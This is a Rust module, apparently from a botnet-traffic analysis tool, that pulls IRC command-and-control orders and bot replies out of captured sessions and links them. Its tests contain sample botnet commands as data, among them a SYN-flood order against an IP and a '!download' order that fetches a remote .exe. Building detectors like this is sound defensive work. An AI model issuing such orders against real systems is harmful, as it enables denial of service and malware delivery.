//! Orders and replies of one IRC session, seen from either end.
//!
//! - **Bot side** (the capture point holds the bot): orders arrive from
//!   the server in `332` (topic on join), `TOPIC`, `PRIVMSG` and `NOTICE`
//!   texts; the bot's replies are its own `PRIVMSG`/`NOTICE` lines. The
//!   herder is the line's prefix (for a `332`, the setter the following
//!   `333` names).
//! - **Herder side** (the capture point holds the herder's client): orders
//!   are the client's own `PRIVMSG`/`NOTICE` lines to a bot's nick or to a
//!   channel; the bots' replies come back relayed by the server, each with
//!   the bot's `nick!user@host` prefix, which is the bot's identity (its
//!   address when the host part is one).
//!
//! A reply is linked to an order of the same session: a `DOWNLOAD`/
//! `UPDATE` reply to the latest download order naming the same URL or
//! file; otherwise to the latest order of the kind its tag (or, for
//! SDBot's untagged lines, its words) names; an untagged reply that names
//! no kind, to the latest order sent to that bot at most 10 minutes
//! earlier.

use crate::analysis::{OrderRow, ReplyRow};
use crate::orders::{implied_tag, parse_order, parse_relayed_reply, parse_reply, OrderKind, Reply};
use botscope_core::events::IrcEvent;
use std::net::{IpAddr, Ipv4Addr};

/// Longest gap between an order and an untagged reply linked to it by
/// time alone, µs.
pub const UNTAGGED_REPLY_WINDOW_US: i64 = 600_000_000;
/// Most replies kept per order.
pub const MAX_REPLIES_PER_ORDER: usize = 64;

/// `sent`: an order the session's client sent (herder side);
/// `received`: an order the session's client received (bot side).
pub const SENT: &str = "sent";
/// See [`SENT`].
pub const RECEIVED: &str = "received";

/// The nick of a `nick!user@host` prefix.
pub fn prefix_nick(prefix: &str) -> &str {
    prefix.split(['!', '@']).next().unwrap_or(prefix)
}

/// The `user@host` of a `nick!user@host` prefix.
pub fn prefix_userhost(prefix: &str) -> Option<&str> {
    prefix.split_once('!').map(|(_, uh)| uh)
}

/// The address in a prefix's host part, when it is one.
pub fn prefix_addr(prefix: &str) -> Option<IpAddr> {
    let host = prefix.rsplit_once('@').map(|(_, h)| h)?;
    host.parse().ok()
}

/// Whether an IRC target is a channel.
pub fn is_channel(target: &str) -> bool {
    target.starts_with(['#', '&', '+', '!'])
}

/// Orders and replies found in one session.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct Found {
    /// Orders the client received.
    pub received: usize,
    /// Orders the client sent.
    pub sent: usize,
}

/// Reads one session's lines (sorted by time): pushes its orders and
/// replies, links replies to orders, and returns how many orders went
/// each way.
// About 150 lines on purpose: one pass over the session's lines in time
// order, where each line's handling (order, topic setter, own reply,
// relayed reply) reads and updates the same per-session state; the
// per-kind work is already in the helpers below.
pub fn session_orders(
    uid: &str,
    client: IpAddr,
    evs: &[&IrcEvent],
    orders: &mut Vec<OrderRow>,
    replies: &mut Vec<ReplyRow>,
) -> Found {
    let first_order = orders.len();
    let mut found = Found::default();
    for (i, e) in evs.iter().enumerate() {
        let text = match e.params.last() {
            Some(t) => t,
            None => continue,
        };
        match (e.from_client, e.command.as_str()) {
            (false, "332") => {
                let chan = e.params.get(1).cloned();
                // The setter: the next 333 for the same channel.
                let sender = evs[i + 1..]
                    .iter()
                    .take(8)
                    .find(|x| {
                        !x.from_client && x.command == "333" && x.params.get(1) == chan.as_ref()
                    })
                    .and_then(|x| x.params.get(2).cloned());
                if push_received(uid, client, e, "topic", chan, sender, text, orders) {
                    found.received += 1;
                }
            }
            (false, "TOPIC") => {
                let target = e.params.first().cloned();
                if push_received(
                    uid,
                    client,
                    e,
                    "topic",
                    target,
                    e.prefix.clone(),
                    text,
                    orders,
                ) {
                    found.received += 1;
                }
            }
            (false, cmd @ ("PRIVMSG" | "NOTICE")) => {
                if e.params.len() < 2 {
                    continue;
                }
                let via = if cmd == "PRIVMSG" {
                    "privmsg"
                } else {
                    "notice"
                };
                let target = e.params.first().cloned();
                // A bot answering the herder may start with a command word
                // (`download of http://... complete`): from a nick this
                // session ordered, a text without an order prefix is a
                // reply, not an order to the herder.
                let from_ordered = found.sent > 0
                    && e.prefix
                        .as_deref()
                        .is_some_and(|p| ordered_nick(&orders[first_order..], prefix_nick(p)));
                if parse_order(text).is_some_and(|o| !(from_ordered && o.prefix.is_none())) {
                    if push_received(uid, client, e, via, target, e.prefix.clone(), text, orders) {
                        found.received += 1;
                    }
                    continue;
                }
                if found.sent > 0 {
                    relayed_reply(
                        uid,
                        e,
                        text,
                        &mut orders[first_order..],
                        first_order,
                        replies,
                    );
                }
            }
            (true, cmd @ ("PRIVMSG" | "NOTICE")) => {
                if e.params.len() < 2 {
                    continue;
                }
                let target = e.params.first().cloned().unwrap_or_default();
                if let Some(reply) = parse_reply(text) {
                    own_reply(
                        uid,
                        e,
                        text,
                        reply,
                        &mut orders[first_order..],
                        first_order,
                        replies,
                    );
                    continue;
                }
                // The herder who ordered this bot in private, within the
                // window: a plain line to them is an answer (even one that
                // starts with a command word), not an order.
                let asked = found.received > 0
                    && !is_channel(&target)
                    && orders[first_order..].iter().any(|o| {
                        o.direction == RECEIVED
                            && o.via != "topic"
                            && o.sender
                                .as_deref()
                                .is_some_and(|s| prefix_nick(s).eq_ignore_ascii_case(&target))
                            && e.ts.0 - o.ts.0 <= UNTAGGED_REPLY_WINDOW_US
                    });
                if let Some(order) = parse_order(text).filter(|o| !(asked && o.prefix.is_none())) {
                    let via = if cmd == "PRIVMSG" {
                        "privmsg"
                    } else {
                        "notice"
                    };
                    let bot_nick = (!is_channel(&target)).then(|| target.clone());
                    orders.push(OrderRow {
                        uid: uid.to_string(),
                        bot: IpAddr::V4(Ipv4Addr::UNSPECIFIED),
                        ts: e.ts,
                        via: via.into(),
                        target: Some(target),
                        raw: text.clone(),
                        order,
                        replies: vec![],
                        evidence: e.evidence.clone(),
                        direction: SENT.into(),
                        sender: e.nick.clone(),
                        bot_nick,
                        bot_host: None,
                    });
                    found.sent += 1;
                    continue;
                }
                // An SDBot-style plain reply to the herder who ordered in
                // private, on the bot side.
                if let Some(reply) = parse_relayed_reply(text).filter(|_| asked) {
                    own_reply(
                        uid,
                        e,
                        text,
                        reply,
                        &mut orders[first_order..],
                        first_order,
                        replies,
                    );
                }
            }
            _ => {}
        }
    }
    bot_identities(evs, &mut orders[first_order..]);
    found
}

/// Whether an order of the session was sent to `nick`.
fn ordered_nick(session: &[OrderRow], nick: &str) -> bool {
    session.iter().any(|o| {
        o.direction == SENT
            && o.bot_nick
                .as_deref()
                .is_some_and(|b| b.eq_ignore_ascii_case(nick))
    })
}

/// Gives every order sent to a bot's nick that bot's identity: the
/// `user@host` (and address) of any server-relayed line from that nick in
/// the session, so orders the bot never answered are attributed too.
fn bot_identities(evs: &[&IrcEvent], session: &mut [OrderRow]) {
    for o in session
        .iter_mut()
        .filter(|o| o.direction == SENT && o.bot_host.is_none())
    {
        let Some(nick) = o.bot_nick.as_deref() else {
            continue;
        };
        let prefix = evs
            .iter()
            .filter(|e| !e.from_client)
            .filter_map(|e| e.prefix.as_deref())
            .find(|p| p.contains('!') && prefix_nick(p).eq_ignore_ascii_case(nick));
        if let Some(p) = prefix {
            o.bot_host = prefix_userhost(p).map(str::to_string);
            if let (Some(a), true) = (prefix_addr(p), o.bot.is_unspecified()) {
                o.bot = a;
            }
        }
    }
}

#[allow(clippy::too_many_arguments)]
fn push_received(
    uid: &str,
    client: IpAddr,
    e: &IrcEvent,
    via: &str,
    target: Option<String>,
    sender: Option<String>,
    text: &str,
    orders: &mut Vec<OrderRow>,
) -> bool {
    let Some(order) = parse_order(text) else {
        return false;
    };
    orders.push(OrderRow {
        uid: uid.to_string(),
        bot: client,
        ts: e.ts,
        via: via.into(),
        target,
        raw: text.to_string(),
        order,
        replies: vec![],
        evidence: e.evidence.clone(),
        direction: RECEIVED.into(),
        sender,
        bot_nick: e.nick.clone(),
        bot_host: None,
    });
    true
}

/// A reply line the session's client (the bot) sent.
fn own_reply(
    uid: &str,
    e: &IrcEvent,
    text: &str,
    reply: Reply,
    session: &mut [OrderRow],
    base: usize,
    replies: &mut Vec<ReplyRow>,
) {
    let order = link(session, &reply, e.ts.0, |o| o.direction == RECEIVED);
    push_reply(
        uid,
        e,
        text,
        reply,
        order,
        e.nick.clone(),
        session,
        base,
        replies,
    );
}

/// A line relayed to the herder from a bot it ordered.
fn relayed_reply(
    uid: &str,
    e: &IrcEvent,
    text: &str,
    session: &mut [OrderRow],
    base: usize,
    replies: &mut Vec<ReplyRow>,
) {
    let Some(prefix) = e.prefix.as_deref() else {
        return;
    };
    let nick = prefix_nick(prefix);
    let chan = e.params.first().filter(|t| is_channel(t));
    let to_this = |o: &OrderRow| {
        o.direction == SENT
            && (o
                .bot_nick
                .as_deref()
                .is_some_and(|b| b.eq_ignore_ascii_case(nick))
                || (chan.is_some() && o.target.as_ref() == chan))
    };
    if !session.iter().any(to_this) {
        return;
    }
    // The bot's identity from the prefix.
    let host = prefix_userhost(prefix).map(str::to_string);
    let addr = prefix_addr(prefix);
    for o in session.iter_mut().filter(|o| {
        o.direction == SENT
            && o.bot_nick
                .as_deref()
                .is_some_and(|b| b.eq_ignore_ascii_case(nick))
    }) {
        if o.bot_host.is_none() {
            o.bot_host = host.clone();
        }
        if let Some(a) = addr {
            if o.bot.is_unspecified() {
                o.bot = a;
            }
        }
    }
    let Some(reply) = parse_relayed_reply(text) else {
        return;
    };
    // In a channel anyone may talk: a line there is a reply only when it
    // carries a tag or its words name a kind of order.
    let by_nick = session.iter().any(|o| {
        o.direction == SENT
            && o.bot_nick
                .as_deref()
                .is_some_and(|b| b.eq_ignore_ascii_case(nick))
    });
    if !by_nick && !reply.tagged && reply.tag.is_empty() {
        return;
    }
    let order = link(session, &reply, e.ts.0, to_this);
    push_reply(
        uid,
        e,
        text,
        reply,
        order,
        Some(prefix.to_string()),
        session,
        base,
        replies,
    );
}

#[allow(clippy::too_many_arguments)]
fn push_reply(
    uid: &str,
    e: &IrcEvent,
    text: &str,
    reply: Reply,
    order: Option<usize>,
    from: Option<String>,
    session: &mut [OrderRow],
    base: usize,
    replies: &mut Vec<ReplyRow>,
) {
    let idx = replies.len();
    if let Some(o) = order {
        if session[o].replies.len() < MAX_REPLIES_PER_ORDER {
            session[o].replies.push(idx);
        }
    }
    replies.push(ReplyRow {
        uid: uid.to_string(),
        ts: e.ts,
        raw: text.to_string(),
        reply,
        order: order.map(|o| o + base),
        evidence: e.evidence.clone(),
        from,
    });
}

/// The kind of order a reply tag answers (`MAIN` and untagged replies go
/// by the words of their text).
fn tag_fits(tag: &str, text: &str, kind: &OrderKind) -> bool {
    let tag = match tag {
        "MAIN" | "" => implied_tag(text),
        t => t,
    };
    match (tag, kind) {
        ("DOWNLOAD", OrderKind::Download { update: false, .. })
        | ("UPDATE", OrderKind::Download { update: true, .. })
        | ("SCAN", OrderKind::Scan { .. })
        | ("DDOS" | "SYN" | "UDP" | "PING" | "ACK" | "TCP", OrderKind::Ddos { .. })
        | ("SOCKS4" | "SOCKS5" | "HTTPD" | "REDIRECT" | "SOCKS", OrderKind::Redirect { .. })
        | ("LOGIN", OrderKind::Login { .. })
        | ("EXECUTE" | "EXEC" | "SHELL" | "OPEN", OrderKind::Execute { .. }) => true,
        ("SCAN", OrderKind::Control { action }) => action.starts_with("scan."),
        ("LOGOUT", OrderKind::Control { action }) => action == "logout",
        ("REMOVE", OrderKind::Control { action }) => action == "remove",
        ("SYSINFO" | "SYS", OrderKind::Info { topic }) => topic == "sysinfo",
        ("NETINFO" | "NET", OrderKind::Info { topic }) => topic == "netinfo",
        ("STATUS", OrderKind::Info { topic }) => {
            matches!(topic.as_str(), "status" | "version" | "uptime")
        }
        _ => false,
    }
}

/// The order (index into `session`) a reply answers.
fn link(
    session: &[OrderRow],
    reply: &Reply,
    ts: i64,
    eligible: impl Fn(&OrderRow) -> bool,
) -> Option<usize> {
    let cands: Vec<(usize, &OrderRow)> = session
        .iter()
        .enumerate()
        .rev()
        .filter(|(_, o)| eligible(o) && o.ts.0 <= ts)
        .collect();
    let named = |o: &OrderRow| -> bool {
        match (reply.tag.as_str(), &o.order.kind) {
            ("DOWNLOAD" | "UPDATE", OrderKind::Download { url, file, .. }) => {
                let by_url = reply.url.is_some() && reply.url == *url;
                let by_file = reply.file.as_ref().is_some_and(|rf| {
                    file.as_ref()
                        .is_some_and(|f| f == rf || f.ends_with(&format!("\\{rf}")))
                });
                by_url || by_file
            }
            _ => false,
        }
    };
    if let Some((i, _)) = cands.iter().find(|(_, o)| named(o)) {
        return Some(*i);
    }
    if let Some((i, _)) = cands
        .iter()
        .find(|(_, o)| tag_fits(&reply.tag, &reply.text, &o.order.kind))
    {
        return Some(*i);
    }
    if !reply.tagged {
        return cands
            .iter()
            .find(|(_, o)| ts - o.ts.0 <= UNTAGGED_REPLY_WINDOW_US)
            .map(|(i, _)| *i);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use botscope_core::events::Evidence;
    use botscope_core::{FlowKey, Proto, Ts};

    fn ev(
        ts: i64,
        from_client: bool,
        prefix: Option<&str>,
        cmd: &str,
        params: &[&str],
    ) -> IrcEvent {
        IrcEvent {
            ts: Ts(ts),
            uid: "C1".into(),
            id: FlowKey {
                orig_h: "10.0.0.5".parse().unwrap(),
                orig_p: 1030,
                resp_h: "10.0.0.1".parse().unwrap(),
                resp_p: 6667,
                proto: Proto::Tcp,
            },
            from_client,
            nick: Some("bot-123".into()),
            user: None,
            prefix: prefix.map(String::from),
            command: cmd.into(),
            params: params.iter().map(|p| p.to_string()).collect(),
            value: None,
            addl: None,
            dcc: None,
            tags: Vec::new(),
            evidence: Evidence::default(),
        }
    }

    /// Bot side, SDBot style: a private order and the bot's plain answer
    /// to the herder who gave it; a plain line to a channel is not a reply.
    #[test]
    fn bot_side_untagged_reply_to_a_private_order() {
        let evs = [
            ev(0, false, Some("herder!h@example.net"), "PRIVMSG", &["bot-123", ".sysinfo"]),
            ev(1_000_000, true, None, "PRIVMSG", &["#chan", "cpu: 800 MHz. ram: 1 KB total"]),
            ev(2_000_000, true, None, "PRIVMSG", &["herder", "cpu: 800 MHz. ram: 261616 KB total, 12 KB free. os: Windows 2000 (5.0, build 2195)."]),
            // Past the 10-minute window: no longer a reply.
            ev(700_000_000, true, None, "PRIVMSG", &["herder", "something else"]),
        ];
        let refs: Vec<&IrcEvent> = evs.iter().collect();
        let (mut orders, mut replies) = (Vec::new(), Vec::new());
        let client: IpAddr = "10.0.0.5".parse().unwrap();
        let found = session_orders("C1", client, &refs, &mut orders, &mut replies);
        assert_eq!(
            found,
            Found {
                received: 1,
                sent: 0
            }
        );
        assert_eq!(orders[0].sender.as_deref(), Some("herder!h@example.net"));
        assert_eq!(orders[0].bot, client);
        assert_eq!(replies.len(), 1);
        assert_eq!(
            (
                replies[0].order,
                replies[0].reply.tag.as_str(),
                replies[0].reply.tagged
            ),
            (Some(0), "SYSINFO", false)
        );
        assert_eq!(orders[0].replies, vec![0]);
    }

    /// Herder side: the bot's address comes from its reply prefix when the
    /// host part is one; lines from nicks never ordered are ignored.
    #[test]
    fn herder_side_bot_address_from_prefix() {
        let evs = [
            ev(0, true, None, "PRIVMSG", &["bot-9", "!login pw"]),
            ev(
                1,
                false,
                Some("other!o@10.9.9.8"),
                "PRIVMSG",
                &["bot-123", "password accepted."],
            ),
            ev(
                2,
                false,
                Some("bot-9!b@10.9.9.9"),
                "PRIVMSG",
                &["bot-123", "[MAIN]: Password accepted."],
            ),
            ev(
                3,
                true,
                None,
                "PRIVMSG",
                &["bot-9", "!ddos.syn 10.1.1.1 80 60"],
            ),
            ev(
                4,
                false,
                Some("bot-9!b@10.9.9.9"),
                "NOTICE",
                &["bot-123", "[SYN]: Flooding: (10.1.1.1:80) for 60 seconds."],
            ),
        ];
        let refs: Vec<&IrcEvent> = evs.iter().collect();
        let (mut orders, mut replies) = (Vec::new(), Vec::new());
        let found = session_orders(
            "C1",
            "10.0.0.5".parse().unwrap(),
            &refs,
            &mut orders,
            &mut replies,
        );
        assert_eq!(
            found,
            Found {
                received: 0,
                sent: 2
            }
        );
        for o in &orders {
            assert_eq!(o.bot.to_string(), "10.9.9.9");
            assert_eq!(o.bot_host.as_deref(), Some("b@10.9.9.9"));
        }
        let linked: Vec<_> = replies
            .iter()
            .map(|r| (r.order, r.reply.tag.as_str()))
            .collect();
        assert_eq!(linked, vec![(Some(0), "MAIN"), (Some(1), "SYN")]);
    }

    /// A plain answer that starts with a command word is a reply both
    /// ways: the bot's own line to the herder who ordered it in private,
    /// and the line relayed to a herder from the nick it ordered.
    #[test]
    fn command_word_answers_are_replies_not_orders() {
        let evs = [
            ev(
                0,
                false,
                Some("herder!h@example.net"),
                "PRIVMSG",
                &["bot-123", "!download http://d.example/s.exe s.exe"],
            ),
            ev(
                1_000_000,
                true,
                None,
                "PRIVMSG",
                &["herder", "download of http://d.example/s.exe complete"],
            ),
        ];
        let refs: Vec<&IrcEvent> = evs.iter().collect();
        let (mut orders, mut replies) = (Vec::new(), Vec::new());
        let found = session_orders(
            "C1",
            "10.0.0.5".parse().unwrap(),
            &refs,
            &mut orders,
            &mut replies,
        );
        assert_eq!(
            found,
            Found {
                received: 1,
                sent: 0
            }
        );
        assert_eq!(
            (
                replies.len(),
                replies[0].order,
                replies[0].reply.tag.as_str()
            ),
            (1, Some(0), "DOWNLOAD")
        );
        let evs = [
            ev(
                0,
                true,
                None,
                "PRIVMSG",
                &["spy-1", "!download http://d.example/s.exe s.exe"],
            ),
            ev(
                1_000_000,
                false,
                Some("spy-1!s@10.7.7.7"),
                "NOTICE",
                &["bot-123", "download of http://d.example/s.exe complete"],
            ),
            ev(2_000_000, true, None, "PRIVMSG", &["spy-1", "!remove"]),
        ];
        let refs: Vec<&IrcEvent> = evs.iter().collect();
        let (mut orders, mut replies) = (Vec::new(), Vec::new());
        let found = session_orders(
            "C1",
            "10.0.0.5".parse().unwrap(),
            &refs,
            &mut orders,
            &mut replies,
        );
        assert_eq!(
            found,
            Found {
                received: 0,
                sent: 2
            }
        );
        assert_eq!((replies.len(), replies[0].order), (1, Some(0)));
        // The unanswered !remove still gets the bot's identity.
        assert_eq!(orders[1].bot.to_string(), "10.7.7.7");
        assert_eq!(orders[1].bot_host.as_deref(), Some("s@10.7.7.7"));
    }
}
